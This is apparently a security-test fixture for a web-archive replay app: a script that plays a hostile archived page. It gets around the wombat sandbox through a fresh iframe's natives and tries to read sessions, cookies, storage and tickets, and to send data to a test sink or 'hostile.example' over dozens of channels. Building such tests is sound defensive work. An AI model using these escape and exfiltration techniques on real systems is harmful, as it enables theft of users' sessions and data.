// What an archived page with bad intentions tries. It runs as the page's own script: rewritten, started under wombat, and knowing how to get
// around wombat (a fresh frame's natives). APP and SINK are put in by the test. Whatever it gets hold of goes into window.got.
window.got = [];
window.tried = [];
const hold = (name, what) => { if (what !== undefined && what !== null && what !== false && what !== '') window.got.push(`${name}: ${String(what).slice(0, 200)}`); };
const attempt = async (name, run) => {
  window.tried.push(name);
  try {
    const result = await Promise.race([run(), new Promise((resolve) => { setTimeout(() => resolve(null), 1500); })]);
    hold(name, result);
  } catch { /* refused */ }
};
// Natives that wombat has not put its hands on, where the browser gives a page such.
const fresh = () => {
  try {
    const frame = document.createElement('iframe');
    document.documentElement.append(frame);
    return frame.contentWindow.document ? frame.contentWindow : window;
  } catch { return window; }
};
const native = fresh();
const rawWindow = (() => { try { return native.eval('parent'); } catch { return (0, eval)('this'); } })();
const rawDocument = () => { try { return native.eval('parent.document'); } catch { return document; } };
const element = (tag, attributes) => {
  const made = native.Document.prototype.createElement.call(rawDocument(), tag);
  for (const [key, value] of Object.entries(attributes)) native.Element.prototype.setAttribute.call(made, key, value);
  native.Node.prototype.appendChild.call(rawDocument().documentElement, made);
  return made;
};

async function reads() {
  for (const [name, options] of [['fetch', {}], ['fetch with credentials', { credentials: 'include' }], ['fetch without', { credentials: 'omit' }]]) {
    await attempt(`${name} of the API`, async () => (await native.fetch.call(rawWindow, `${APP}/api/v1/session`, options)).text());
    await attempt(`${name} of links by a leaked path`, async () => { const text = await (await native.fetch.call(rawWindow, '/api/v1/links', options)).text(); return text.includes('"links"') ? text : null; });
  }
  await attempt('XHR of the API', () => new Promise((resolve, reject) => {
    const request = new native.XMLHttpRequest();
    request.open('GET', `${APP}/api/v1/session`);
    request.withCredentials = true;
    request.onload = () => resolve(request.responseText);
    request.onerror = reject;
    request.send();
  }));
  await attempt('a script of the API', () => new Promise((resolve) => { element('script', { src: `${APP}/api/v1/session` }).onload = () => resolve('loaded'); }));
  await attempt('events of the API', () => new Promise((resolve) => { new native.EventSource(`${APP}/api/v1/events`).onmessage = (event) => resolve(event.data); }));
  await attempt('cookies of the app', async () => { const text = rawDocument().cookie; return /wm_/.test(text) ? text : null; });
  await attempt('its storage', async () => { const store = native.eval('parent').localStorage; return store.getItem('app-secret'); });
  await attempt('the document around', async () => rawWindow.parent !== rawWindow && rawWindow.parent.document.title);
  await attempt('the topmost document', async () => rawWindow.top !== rawWindow && rawWindow.top.document.body.innerHTML);
  await attempt('the opener', async () => rawWindow.opener && rawWindow.opener.document.title);
  await attempt('the frame element', async () => rawWindow.frameElement && rawWindow.frameElement.ownerDocument.title);
  await attempt('the ticket in a cookie', async () => { const text = rawDocument().cookie; return /wm_replay/.test(text) ? text : null; });
  await attempt('the ticket in the referrer', async () => (/_ticket/.test(rawDocument().referrer) ? rawDocument().referrer : null));
}

async function writes() {
  await attempt('a link by POST', async () => { const answer = await native.fetch.call(rawWindow, `${APP}/api/v1/links`, { method: 'POST', credentials: 'include', mode: 'no-cors', body: '{"url":"http://hostile.example/"}' }); return answer.ok && 'posted'; });
  await attempt('a beacon to the API', async () => rawWindow.navigator.sendBeacon(`${APP}/api/v1/links`, '{"url":"http://hostile.example/"}') && null);
  await attempt('a form to the API', async () => { element('iframe', { name: 'inner' }); const form = element('form', { method: 'post', action: `${APP}/api/v1/links`, target: 'inner', enctype: 'text/plain' }); native.HTMLFormElement.prototype.submit.call(form); });
  await attempt('messages to the app', async () => { rawWindow.parent.postMessage({ wb_type: 'replace-url', url: `${SINK}/message`, title: 'hostile' }, '*'); rawWindow.top.postMessage('hostile', '*'); });
  await attempt('a cookie for the app', async () => { for (const path of ['/', '/api']) rawDocument().cookie = `wm_session=tossed; path=${path}`; });
  await attempt('a service worker', async () => (await rawWindow.navigator.serviceWorker.register('/sw.js')).scope);
  await attempt('a service worker from its memento', async () => (await rawWindow.navigator.serviceWorker.register(rawWindow.location.href.replace(/mp_|if_/, 'sw_').replace(/\/[^/]*$/, '/sw.js'))).scope);
  await attempt('the topmost address', async () => { rawWindow.top.location = `${SINK}/top`; });
  await attempt('the address around', async () => { if (rawWindow.parent !== rawWindow) rawWindow.parent.location.href = `${SINK}/parent`; });
}

async function leaks() {
  const to = (name) => `${SINK}/${name}`;
  await attempt('fetch', async () => (await native.fetch.call(rawWindow, to('fetch'), { mode: 'no-cors' })).type);
  await attempt('XHR', async () => { const request = new native.XMLHttpRequest(); request.open('GET', to('xhr')); request.send(); });
  await attempt('a WebSocket', async () => { new native.WebSocket(to('socket').replace('http', 'ws')); });
  await attempt('an EventSource', async () => { new native.EventSource(to('events')); });
  await attempt('a beacon', async () => { rawWindow.navigator.sendBeacon(to('beacon'), 'x'); });
  await attempt('a picture', async () => { new native.Image().src = to('image'); element('img', { src: to('img') }); element('img', { srcset: `${to('srcset')} 1x` }); });
  await attempt('a script', async () => { element('script', { src: to('script') }); });
  await attempt('a module', async () => { element('script', { type: 'module', src: to('module') }); });
  await attempt('an import', async () => native.eval(`import('${to('import')}')`).then(() => 'imported'));
  await attempt('a sheet', async () => { element('link', { rel: 'stylesheet', href: to('sheet') }); });
  await attempt('CSS', async () => { element('style', {}).textContent = `@import url(${to('css-import')}); body { background: url(${to('css-url')}) } @font-face { font-family: f; src: url(${to('font')}) } html { font-family: f; cursor: url(${to('cursor')}), auto; list-style-image: image-set("${to('image-set')}" 1x) }`; });
  await attempt('hints', async () => { for (const rel of ['prefetch', 'preload', 'prerender', 'modulepreload', 'icon', 'manifest', 'dns-prefetch']) element('link', { rel, as: 'image', href: to(rel) }); });
  await attempt('speculation', async () => { element('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to('speculation')] }], prerender: [{ source: 'list', urls: [to('prerender')] }] }); });
  await attempt('frames', async () => { element('iframe', { src: to('iframe') }); element('object', { data: to('object') }); element('embed', { src: to('embed') }); element('iframe', { srcdoc: `<img src="${to('srcdoc')}"><script src="${to('srcdoc-script')}"></script>` }); element('portal', { src: to('portal') }); });
  await attempt('media', async () => { element('video', { src: to('video'), poster: to('poster'), preload: 'auto' }); element('audio', { src: to('audio'), preload: 'auto' }); });
  await attempt('SVG', async () => { const box = element('div', {}); box.innerHTML = `<svg><image href="${to('svg-image')}"/><use href="${to('svg-use')}#x"/><script href="${to('svg-script')}"></script><style>@import url(${to('svg-style')});</style></svg>`; });
  await attempt('a data frame', async () => { element('iframe', { src: `data:text/html,<img src="${to('data-frame')}"><script>fetch("${to('data-fetch')}",{mode:"no-cors"})</script>` }); });
  await attempt('a blob frame', async () => { element('iframe', { src: native.URL.createObjectURL(new native.Blob([`<img src="${to('blob-frame')}"><script>new WebSocket("${to('blob-socket').replace('http', 'ws')}")</script>`], { type: 'text/html' })) }); });
  await attempt('a worker', async () => { const code = `WorkerGlobalScope.prototype.fetch.call(self, "${to('worker')}", { mode: 'no-cors' }); WorkerGlobalScope.prototype.fetch.call(self, "${APP}/api/v1/session").then((r) => r.text()).then((t) => postMessage(t)); importScripts("${to('worker-import')}")`; const worker = new native.Worker(native.URL.createObjectURL(new native.Blob([code]))); return new Promise((resolve) => { worker.onmessage = (event) => resolve(event.data); }); });
  await attempt('a form', async () => { element('iframe', { name: 'sunk' }); const form = element('form', { action: to('form'), target: 'sunk' }); native.HTMLFormElement.prototype.submit.call(form); });
  await attempt('a ping', async () => { element('a', { href: '#', ping: to('ping') }).click(); });
  await attempt('a download', async () => { element('a', { href: to('download'), download: 'x' }).click(); });
  await attempt('a refresh', async () => { element('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${to('refresh')}">` }); });
  await attempt('a base', async () => { const base = element('base', { href: `${SINK}/base/` }); new native.Image().src = 'relative.png'; base.remove(); });
  await attempt('a paint worklet', async () => rawWindow.CSS.paintWorklet.addModule(to('worklet')).then(() => 'added'));
  await attempt('a report', async () => { element('meta', { 'http-equiv': 'Content-Security-Policy', content: `img-src 'none'; report-uri ${to('report')}` }); new native.Image().src = '/reported.png'; });
  await attempt('a popup', async () => { const made = native.open.call(rawWindow, to('popup')); return made && made.document && null; });
  await attempt('another frame of this origin', async () => { const name = Object.keys(rawWindow.localStorage).find((key) => key.includes('neighbour')); return name; });
  await attempt('WebRTC', async () => { const link = new native.RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${STUN}` }] }); link.createDataChannel('x'); await link.setLocalDescription(await link.createOffer()); await new Promise((resolve) => { setTimeout(resolve, 800); }); });
  await attempt('a connection in advance', async () => { element('link', { rel: 'preconnect', href: PRECONNECT }); await new Promise((resolve) => { setTimeout(resolve, 300); }); });
}

// Last, since it may end the page: frame busting and leaving.
async function leaves() {
  await attempt('leaving', async () => { native.eval('parent').location.assign(`${SINK}/leave`); });
}

reads().then(writes).then(leaks).then(() => { window.attacked = true; });
window.leaveNow = leaves;
